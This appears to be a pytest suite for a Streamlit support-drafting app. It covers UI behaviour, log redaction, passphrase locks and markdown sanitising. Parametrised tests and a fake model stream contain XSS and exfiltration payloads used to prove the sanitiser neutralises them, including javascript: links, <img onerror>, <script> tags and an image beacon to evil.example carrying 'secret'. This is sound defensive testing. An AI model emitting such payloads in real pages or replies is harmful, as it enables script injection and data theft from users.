"""The Streamlit app, headless through AppTest, against a small real knowledge base and the real model."""
from __future__ import annotations

import csv
import io
import json
import sqlite3
import tomllib
from pathlib import Path
from urllib.parse import parse_qsl

import pytest
from streamlit.testing.v1 import AppTest

from tests.app_fixtures import APP, PASSPHRASE, ROOT, AppEnv, app_env, keep_main_module  # noqa: F401  (fixtures)
from tests.files import write_md
from ui.common import safe_markdown

SAMPLES_QUESTION = "Hi, I'm Jess from the US. How many free samples can I request per month?"
PAGES = ("ui/draft.py", "ui/learn.py", "ui/library.py", "ui/activity.py")


def start(page: str = "") -> AppTest:
    """A fresh session of the app, optionally on another page."""
    at = AppTest.from_file(str(APP), default_timeout=120).run()
    if page:
        at.switch_page(page).run()
    assert not at.exception, at.exception
    return at


def by_prefix(at: AppTest, prefix: str, kind: str = "button") -> object:
    """The one widget whose key starts with prefix (conversation keys carry ids)."""
    found = [w for w in getattr(at, kind) if w.key and w.key.startswith(prefix)]
    assert len(found) == 1, [w.key for w in getattr(at, kind)]
    return found[0]


def draft(at: AppTest, message: str = SAMPLES_QUESTION) -> AppTest:
    """Paste a message into the active conversation and press Draft."""
    by_prefix(at, "msg_", "text_area").set_value(message)
    by_prefix(at, "draft_").click()
    at.run()
    assert not at.exception, at.exception
    return at


def reply_box(at: AppTest) -> object:
    """The editable reply of the active conversation."""
    return by_prefix(at, "edit_", "text_area")


def db_rows(env: AppEnv) -> list[sqlite3.Row]:
    """Every row of the activity log."""
    with sqlite3.connect(env.settings.activity_db) as conn:
        conn.row_factory = sqlite3.Row
        return conn.execute("SELECT * FROM drafts ORDER BY id").fetchall()


@pytest.mark.parametrize("page", PAGES)
def test_every_page_renders(app_env: AppEnv, page: str) -> None:
    at = start(page)
    assert at.title and at.title[0].value in {"Draft a reply", "Learn", "Library", "Activity"}
    assert at.sidebar.text_input(key="rep_name").label == "Your name"


def test_draft_round_trip_shows_cited_reply_and_sources(app_env: AppEnv) -> None:
    at = draft(start())
    reply = reply_box(at).value
    assert "[1]" in reply and "Jess" in reply
    badges = [m.value for m in at.markdown if "badge[" in m.value]
    # A US creator asking what the free-samples policy states is answered, and the page shows one badge.
    status = [b for b in badges if "Answered" in b or "Escalate" in b]
    assert len(status) == 1 and "Answered" in status[0], badges
    assert any(c.value.startswith("Offline drafter") for c in at.caption)
    sources = [m.value for m in at.markdown if m.value.startswith("**[1] ")]
    assert sources, "the Sources panel lists [1]"
    assert at.text, "quoted passages are shown as plain text"
    links = at.get("page_link")
    assert links and all(link.proto.page == "learn" for link in links)
    assert any("doc=" in link.proto.query_string and "chunk=" in link.proto.query_string for link in links)
    notes = [e for e in at.expander if "internal" in e.label]
    assert notes and "do not send" in notes[0].label
    from assistant.drafters import agency_name

    assert any(f"{agency_name()} process notes" in c.value for c in at.caption)  # the domain file's name


def test_switching_conversations_keeps_each_ones_work(app_env: AppEnv) -> None:
    at = draft(start())
    first_reply = reply_box(at).value
    by_prefix(at, "handle_", "text_input").set_value("@jess.makes").run()
    at.button(key="new_conversation").click().run()
    by_prefix(at, "msg_", "text_area").set_value("Second creator asks about payouts")
    at.run()
    labels = [b.label for b in at.sidebar.button if b.key and b.key.startswith("open_")]
    assert labels == ["@jess.makes", "Second creator asks about payouts"], "labels: the handle, else the first words"
    first = next(b for b in at.sidebar.button if b.label == "@jess.makes")
    first.click().run()
    assert by_prefix(at, "msg_", "text_area").value == SAMPLES_QUESTION
    assert reply_box(at).value == first_reply
    second = next(b for b in at.sidebar.button if b.label == "Second creator asks about payouts")
    second.click().run()
    assert by_prefix(at, "msg_", "text_area").value == "Second creator asks about payouts"
    assert not [t for t in at.text_area if t.key and t.key.startswith("edit_")]
    assert not at.exception


def test_a_quick_switch_never_loses_or_moves_text(app_env: AppEnv) -> None:
    """Typing and the click arrive in one rerun, as when a rep clicks New conversation straight after typing."""
    at = start()
    by_prefix(at, "msg_", "text_area").set_value("First creator: where is my sample?")
    by_prefix(at, "handle_", "text_input").set_value("@first")
    at.button(key="new_conversation").click().run()  # no run between typing and the click
    by_prefix(at, "msg_", "text_area").set_value("Second creator: payout pending")
    by_prefix(at, "region_", "selectbox").set_value("TH")
    next(b for b in at.sidebar.button if b.label == "@first").click().run()  # typed in 2, switched at once
    assert by_prefix(at, "msg_", "text_area").value == "First creator: where is my sample?"
    assert by_prefix(at, "handle_", "text_input").value == "@first"
    assert by_prefix(at, "region_", "selectbox").value == "auto"
    at.switch_page("ui/activity.py").run()  # a page change in between forgets every Draft widget
    at.switch_page("ui/draft.py").run()
    next(b for b in at.sidebar.button if b.label.startswith("Second creator")).click().run()
    assert by_prefix(at, "msg_", "text_area").value == "Second creator: payout pending"
    assert by_prefix(at, "region_", "selectbox").value == "TH"
    at.button(key="new_conversation").click().run()
    assert by_prefix(at, "msg_", "text_area").value == ""
    assert len([b for b in at.sidebar.button if b.key and b.key.startswith("open_")]) == 3
    assert not at.exception


def test_the_message_box_stays_one_element_across_switches(app_env: AppEnv) -> None:
    """The browser keeps what a rep is typing only in a box that stays the same element: one given a new
    identity by New conversation would drop what was typed into the old box before the new one was drawn."""
    at = start()
    ids = {name: by_prefix(at, prefix, kind).id
           for name, prefix, kind in (("message", "msg_", "text_area"), ("handle", "handle_", "text_input"))}
    by_prefix(at, "msg_", "text_area").set_value("First creator: where is my sample?")
    at.button(key="new_conversation").click().run()
    assert by_prefix(at, "msg_", "text_area").id == ids["message"]
    assert by_prefix(at, "handle_", "text_input").id == ids["handle"]
    assert by_prefix(at, "msg_", "text_area").value == "", "the same box, refilled for the new conversation"
    # The browser then sends what was typed into the box before it was refilled: the new conversation's.
    typed = "First creator: where is my sample? Second creator: payout?"
    by_prefix(at, "msg_", "text_area").set_value(typed).run()
    opened = [b for b in at.sidebar.button if b.key and b.key.startswith("open_")]
    assert len(opened) == 2
    opened[0].click().run()
    assert by_prefix(at, "msg_", "text_area").value == "First creator: where is my sample?"
    [b for b in at.sidebar.button if b.key and b.key.startswith("open_")][1].click().run()
    assert by_prefix(at, "msg_", "text_area").value == typed
    assert not at.exception


def test_log_reply_twice_writes_one_row_without_raw_personal_data(app_env: AppEnv) -> None:
    before = len(db_rows(app_env))
    message = (SAMPLES_QUESTION + " Email jess@example.com, phone +1 415 555 0134, "
               "card 4111 1111 1111 1111, order 576461163230694612.")
    at = draft(start(), message)
    reply_box(at).set_value("Hi Jess, you can request up to 5 free samples a month [1].").run()
    by_prefix(at, "log_").click().run()
    by_prefix(at, "log_").click().run()
    assert [s.value for s in at.success] == ["Reply logged."]
    rows = db_rows(app_env)
    assert len(rows) == before + 1
    assert rows[-1]["final_text"] == "Hi Jess, you can request up to 5 free samples a month [1]."
    raw = b"".join(p.read_bytes() for p in Path(app_env.settings.activity_db).parent.glob("activity.sqlite3*"))
    for secret in (b"jess@example.com", b"555 0134", b"4111 1111 1111 1111", b"576461163230694612"):
        assert secret not in raw


def test_feedback_is_saved_on_the_same_row(app_env: AppEnv) -> None:
    at = draft(start(), "How long do bank withdrawals take?")
    before = len(db_rows(app_env))
    by_prefix(at, "thumbs_", "feedback").set_value(0)
    by_prefix(at, "fbreason_", "text_input").set_value("Missing the PayPal fee")
    at.run()
    by_prefix(at, "fb_").click().run()
    rows = db_rows(app_env)
    assert len(rows) == before and rows[-1]["thumbs"] == 0
    assert rows[-1]["feedback_reason"] == "Missing the PayPal fee"


def test_open_document_link_highlights_the_cited_chunk(app_env: AppEnv) -> None:
    at = draft(start())
    params = dict(parse_qsl(at.get("page_link")[0].proto.query_string))
    at.query_params.update(params)
    at.switch_page("ui/learn.py").run()
    assert not at.exception
    assert at.selectbox(key="learn_doc").value == params["doc"]
    assert sum(":orange-badge[Cited passage]" in m.value for m in at.markdown) == 2  # at the top and in place


def test_learn_answers_a_how_to_question_from_process_notes(app_env: AppEnv) -> None:
    at = start("ui/learn.py")
    at.text_input(key="learn_question").set_value("How should I handle a sample request from a creator?")
    at.button(key="learn_ask").click().run()
    assert not at.exception
    cited = [m.value for m in at.markdown if m.value.startswith("**[1] ")]
    assert cited and "processes/" in cited[0], "staff answers cite the internal process notes directly"


def locked_controls(at: AppTest) -> list[object]:
    """The index-changing controls, which a locked session sees disabled with the reason."""
    return [at.button(key="refresh"), at.button(key="retire"), at.selectbox(key="retire_source"), *at.file_uploader]


def test_rep_cannot_change_the_index_without_the_passphrase(app_env: AppEnv) -> None:
    at = start("ui/library.py")
    controls = locked_controls(at)
    assert len(controls) == 4 and all(c.disabled for c in controls)
    assert "passphrase" in at.button(key="refresh").help
    passphrase(at, "wrong guess")
    assert any("not right" in e.value for e in at.error)
    assert all(c.disabled for c in locked_controls(at))


def test_no_owner_login_configured_disables_changes(app_env: AppEnv, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("CREATOR_DESK_OWNER_PASSPHRASE")
    at = start("ui/library.py")
    assert any("Changes are disabled" in i.value for i in at.info)
    assert all(c.disabled for c in locked_controls(at))
    assert "no knowledge-owner login" in at.button(key="refresh").help
    assert not [b for b in at.button if b.label == "Unlock"]


def labelled(at: AppTest, label: str, kind: str = "button") -> object:
    """The one widget with this label."""
    found = [w for w in getattr(at, kind) if w.label == label]
    assert len(found) == 1, [w.label for w in getattr(at, kind)]
    return found[0]


def passphrase(at: AppTest, typed: str) -> AppTest:
    """Type into the Library's passphrase form and press Unlock."""
    labelled(at, "Knowledge-owner passphrase", "text_input").set_value(typed)
    labelled(at, "Unlock").click()
    return at.run()


def unlock(at: AppTest) -> AppTest:
    """Unlock owner actions with the right passphrase."""
    passphrase(at, PASSPHRASE)
    assert not at.exception and not at.button(key="refresh").disabled and not at.file_uploader[0].disabled
    return at


def test_owner_refresh_shows_the_report(app_env: AppEnv) -> None:
    write_md(app_env.settings.kb_dir / "processes" / "crm-notes.md", "# CRM notes\n\nTag every conversation.",
             title="CRM notes", topic="crm")
    at = unlock(start("ui/library.py"))
    at.button(key="refresh").click().run()
    assert not at.exception and not at.error
    report = [m.value for m in at.markdown if m.value.startswith("**Ingest of")]
    assert report and "added 1" in report[0]
    table = at.dataframe[0].value
    assert "processes/crm-notes.md" in set(table["Source"])


def upload(at: AppTest, name: str, data: bytes, mime: str) -> AppTest:
    """Choose a file in the Library's upload form and submit it."""
    at.file_uploader[0].set_value((name, data, mime))
    labelled(at, "Save document").click()
    return at.run()


def test_owner_upload_is_validated_and_retire_removes_it(app_env: AppEnv) -> None:
    at = unlock(start("ui/library.py"))
    upload(at, "fake.pdf", b"not a pdf at all", "application/pdf")
    assert any("not a PDF" in e.value for e in at.error), [e.value for e in at.error]
    assert not (app_env.settings.kb_dir / "policies" / "fake.pdf").exists()
    upload(at, "live-faq.md", b"---\ntitle: Live FAQ\n---\n# Live FAQ\n\nGo live for 30 minutes.", "text/markdown")
    assert not at.exception and any("Saved live-faq.md" in s.value for s in at.success)
    saved = app_env.settings.kb_dir / "policies" / "live-faq.md"
    assert saved.exists()
    at.selectbox(key="retire_source").set_value("policies/live-faq.md")
    at.checkbox(key="retire_confirm").check()
    at.run()
    at.button(key="retire").click().run()
    assert not at.exception and not saved.exists()
    assert any("Retired policies/live-faq.md" in s.value for s in at.success)


def test_csv_export_holds_the_logged_rows(app_env: AppEnv, monkeypatch: pytest.MonkeyPatch) -> None:
    import streamlit.testing.v1.app_test as app_test_module
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    storages: list[MemoryMediaFileStorage] = []

    class Recording(MemoryMediaFileStorage):
        def __init__(self, endpoint: str) -> None:
            super().__init__(endpoint)
            storages.append(self)

    monkeypatch.setattr(app_test_module, "MemoryMediaFileStorage", Recording)
    at = draft(start(), "How long do bank withdrawals take?")
    by_prefix(at, "log_").click().run()
    at.switch_page("ui/activity.py").run()
    assert not at.exception
    url = at.download_button[0].proto.url
    data = storages[-1].get_file(url.rsplit("/", 1)[-1]).content.decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(data)))
    assert len(rows) == len(db_rows(app_env))
    assert any(r["question"] == "How long do bank withdrawals take?" for r in rows)


def test_config_toml_keeps_safe_settings() -> None:
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["browser"]["gatherUsageStats"] is False
    assert config["server"]["enableXsrfProtection"] is True and config["server"]["enableCORS"] is True
    assert config["server"]["maxUploadSize"] <= 50 and config["server"]["headless"] is True
    assert config["client"]["showErrorDetails"] == "none"


def test_no_page_renders_raw_html() -> None:
    for path in [ROOT / "app.py", *sorted((ROOT / "ui").glob("*.py"))]:
        text = path.read_text(encoding="utf-8")
        assert "unsafe_allow_html=True" not in text and "st.html(" not in text, path


def rendered_tokens(markdown: str) -> list:
    """Inline and block tokens as a CommonMark renderer (with HTML on) would see them."""
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
    parser.validateLink = lambda url: True  # like Streamlit's frontend, which lets any URL scheme through
    tokens = parser.parse(markdown)
    return [t for block in tokens for t in [block, *(block.children or [])]]


@pytest.mark.parametrize("hostile", [
    "![x](https://evil.example/x?d=secret)",
    "![x][r]\n\n[r]: https://evil.example/pixel.png",
    "[click](javascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](&#106;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[a [b] c](javascript:alert(1))",
    "\\[x](javascript:alert(1))",
    "\\![x](https://evil.example/x.png)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<javascript:alert(1)>",
])
def test_safe_markdown_neutralises_hostile_markup(hostile: str) -> None:
    tokens = rendered_tokens(safe_markdown(hostile))
    assert not [t for t in tokens if t.type == "image"]
    assert not [t for t in tokens if t.type in ("html_inline", "html_block")]
    hrefs = [t.attrGet("href") for t in tokens if t.type == "link_open"]
    assert all(str(h).lower().startswith(("http://", "https://")) for h in hrefs), hrefs


def test_safe_markdown_keeps_ordinary_text_and_https_links() -> None:
    assert safe_markdown("See [the policy](https://seller-us.tiktok.com/x) [1].") == "See [the policy](https://seller-us.tiktok.com/x) [1]."
    assert safe_markdown("Under $5K and over $150K") == "Under \\$5K and over \\$150K"


def test_llm_stream_with_hostile_output_is_shown_inert(app_env: AppEnv, monkeypatch: pytest.MonkeyPatch) -> None:
    hostile = ("Hi Jess, you can request up to 5 free samples a month [1]. "
               "![x](https://evil.example/x?d=secret) [click](javascript:alert(1)) <img src=x onerror=alert(1)>")
    monkeypatch.setenv("CREATOR_DESK_LLM_PROVIDER", "fake")
    monkeypatch.setenv("CREATOR_DESK_LLM_MODEL", json.dumps([hostile]))
    at = draft(start())
    assert any("fake" in c.value for c in at.caption)
    rendered = " ".join(m.value for m in at.markdown) + " ".join(str(w.value) for w in at.warning)
    assert "](https://evil" not in rendered and "<img" not in rendered and "](javascript" not in rendered


def test_bad_setting_is_shown_plainly(app_env: AppEnv, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CREATOR_DESK_SEARCH_K", "lots")
    at = AppTest.from_file(str(APP), default_timeout=120).run()
    assert not at.exception
    assert any("CREATOR_DESK_SEARCH_K" in e.value for e in at.error)


def test_work_survives_a_trip_to_another_page(app_env: AppEnv) -> None:
    at = start()
    by_prefix(at, "msg_", "text_area").set_value("Typed just before leaving")
    at.switch_page("ui/library.py").run()
    at.switch_page("ui/draft.py").run()
    assert by_prefix(at, "msg_", "text_area").value == "Typed just before leaving"


def test_sessions_never_see_each_others_text(app_env: AppEnv) -> None:
    marker = "MARKER-7f3a creator asks about free samples"
    first = draft(start(), marker)
    second = start()
    seen = [w.value for w in second.text_area] + [m.value for m in second.markdown] + [b.label for b in second.button]
    assert not any("MARKER-7f3a" in str(v) for v in seen)
    assert by_prefix(first, "msg_", "text_area").value == marker


def test_unanswerable_input_keeps_the_typed_text(app_env: AppEnv) -> None:
    at = draft(start(), "\x00\x01\x02 ???")
    assert at.error and not [t for t in at.text_area if t.key and t.key.startswith("edit_")]
    assert by_prefix(at, "msg_", "text_area").value == "\x00\x01\x02 ???"


def test_empty_message_asks_for_one(app_env: AppEnv) -> None:
    at = draft(start(), "   \n  ")
    assert any("Paste the creator's message" in w.value for w in at.warning)


def test_database_failure_keeps_the_draft_on_screen(app_env: AppEnv, monkeypatch: pytest.MonkeyPatch) -> None:
    from assistant.activity import ActivityLog

    def locked(self: ActivityLog, entry: object) -> int:
        raise sqlite3.OperationalError("database is locked")

    monkeypatch.setattr(ActivityLog, "log_draft", locked)
    at = draft(start())
    assert any("activity log" in w.value for w in at.warning)
    by_prefix(at, "log_").click().run()
    assert not at.exception and not at.success
    assert "[1]" in reply_box(at).value


def hostile_draft_script() -> None:
    """An app that renders a Draft whose every field carries hostile markup."""
    from assistant.types import Citation, Draft, RepNote
    from ui.common import render_checks, render_notes, render_sources, render_status

    evil = "![x](https://evil.example/p.png) [go](javascript:alert(1)) <img src=x onerror=alert(1)>"
    draft = Draft(question=evil, status="escalate", draft=evil, reason=evil, team=evil, drafter="llm:" + evil,
                  citations=[Citation(1, "policies/a.md", evil, evil, 2, 0.9, evil, "policies/a.md:v:0")],
                  rep_notes=[RepNote("processes/b.md", evil, evil, evil)], unsupported=[evil + "\nsecond line"],
                  conflicts=[evil], notices=[evil], flags=[evil])
    render_status(draft)
    render_checks(draft)
    render_sources(draft, "t")
    render_notes(draft.rep_notes, "t", expanded=True)


def test_every_draft_field_renders_inert(app_env: AppEnv) -> None:
    at = AppTest.from_function(hostile_draft_script, default_timeout=30).run()
    assert not at.exception
    bodies = [m.value for m in at.markdown] + [e.value for kind in ("warning", "info", "caption")
                                               for e in getattr(at, kind)] + [e.label for e in at.expander]
    assert any("Unsupported" in b or "Not supported" in b for b in bodies)
    for body in bodies:
        tokens = rendered_tokens(body)
        assert not [t for t in tokens if t.type in ("image", "html_inline", "html_block")], body
        assert all(str(t.attrGet("href")).startswith("https://") for t in tokens if t.type == "link_open"), body
    assert any("onerror" in t.value for t in at.text), "quotes are shown verbatim as plain text"
